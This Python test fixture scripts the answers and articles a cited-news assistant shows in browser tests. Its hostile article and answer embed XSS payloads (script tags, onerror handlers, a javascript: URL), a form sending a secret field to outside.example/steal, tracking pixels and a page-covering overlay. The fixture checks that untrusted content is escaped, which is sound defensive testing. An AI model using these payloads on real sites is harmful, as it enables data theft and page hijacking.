"""What the scripted assistant answers in browser tests: plain, refused, unsupported, hostile, endless."""

import datetime as dt
from dataclasses import replace

from core.errors import DatelineError, ModelUnreachableError
from core.types import Answer, Article, Copy
from tests.fakes import MemoryLibrary
from tests.web.fakes import ANSWER, MARKET, NOTES, QUAY, REPAIR, cite, marks, passage, refusal

BAIT = "The wall <img src=x onerror=alert(1)> holds ${alert(2)} {{alert(3)}} well."
HOSTILE = Article(
    id='hostile"><script>alert(4)</script>',
    title="<script>alert(5)</script> \u202eReversed\u202c title ${alert(6)}",
    source="<b onmouseover=alert(7)>Outlet</b>",
    published=dt.date(2026, 3, 1),
    url="javascript:alert(8)",
    text=(
        f"{BAIT}\n\n"
        '<form action="https://outside.example/steal"><input name=secret autofocus></form>\n\n'
        '<div style="position:fixed;inset:0;background:red;z-index:9999">COVER</div>\n\n'
        '<img src="https://outside.example/pixel.png"> ![pixel](https://outside.example/pixel.png)\n\n'
        f"{'Wortungeheuer' * 60}\n\n"
        "\u202eThis line runs backwards and must not turn the page.\n\n"
        "</article></div></body><script>alert(9)</script>"
    ),
)
LONG = Article(
    id="long",
    title="A paragraph of a megabyte",
    source="Coast Weekly",
    published=dt.date(2026, 3, 2),
    text=f"{'Sand and water. ' * 32_000}The one true sentence stands here. {'Water and sand. ' * 32_000}",
)
TRUE = "The one true sentence stands here."
CARRIED = Copy("market", MARKET.title, MARKET.source, MARKET.published, MARKET.url)
EARLIER = replace(
    MARKET, title="Fish market closed", text="The fish market of Tarn Quay is closed.", published_from="meta"
)
CORRECTED = replace(QUAY, published_from="meta", text=f"{QUAY.text}\n\nCorrection: the wall is planned for next year.")
CLAIM = "The mayor flies to the moon."

_WRITTEN: dict[str, Answer | DatelineError] = {
    "repair": ANSWER,
    "second": Answer(
        "",
        "Traders put the damage at 38 million crowns. [1]",
        (cite(1, MARKET, "Traders put the damage at 38 million crowns."),),
        (passage(MARKET, "Traders put the damage at 38 million crowns."),),
    ),
    "hostile": Answer(
        "", f"{BAIT} [1] <script>alert(10)</script>", (cite(1, HOSTILE, BAIT),), (passage(HOSTILE, BAIT),)
    ),
    "long": Answer("", f"{TRUE} [1]", (cite(1, LONG, TRUE),), (passage(LONG, TRUE),)),
    "moon": Answer(
        "",
        f"The repair cost 41 million crowns. [1] {CLAIM}",
        (cite(1, QUAY, "The repair cost 41 million crowns."),),
        (passage(QUAY, "The repair cost 41 million crowns."),),
        model="gguf:small.gguf",
        confidence=0.71,
        refused_below=0.25,
        unsupported=((39, 39 + len(CLAIM)),),
    ),
    "wire": Answer("", f"{REPAIR} [1]", (replace(cite(1, QUAY, REPAIR), copies=(CARRIED,)),), (passage(QUAY, REPAIR),)),
    "king": replace(refusal(""), passages=(passage(CORRECTED, "The town expects 300 ships before winter."),)),
    "not quoted": Answer("", "Ships come and go.", passages=(passage(QUAY, REPAIR),)),
    "verbose": Answer("", "🌊" * 59_000),
    "endless": Answer("", "Tide and " * 9_000),
    "unplugged": ModelUnreachableError("no connection to http://127.0.0.1:9: start the server or choose another model"),
}
SCRIPTS = {
    key: replace(script, markers=marks(script.text)) if isinstance(script, Answer) else script
    for key, script in _WRITTEN.items()
}


def library() -> MemoryLibrary:
    """The articles that the scripts cite, and enough others for three pages."""
    others = [
        Article(id=f"other-{number:02}", title=f"Harbour note {number:02}", source="Notes", text="Ships came and went.")
        for number in range(42)
    ]
    held = MemoryLibrary(CORRECTED, MARKET, NOTES, HOSTILE, LONG, *others)
    held.before["market"] = [EARLIER]
    held.carried["quay"] = (CARRIED,)
    return held
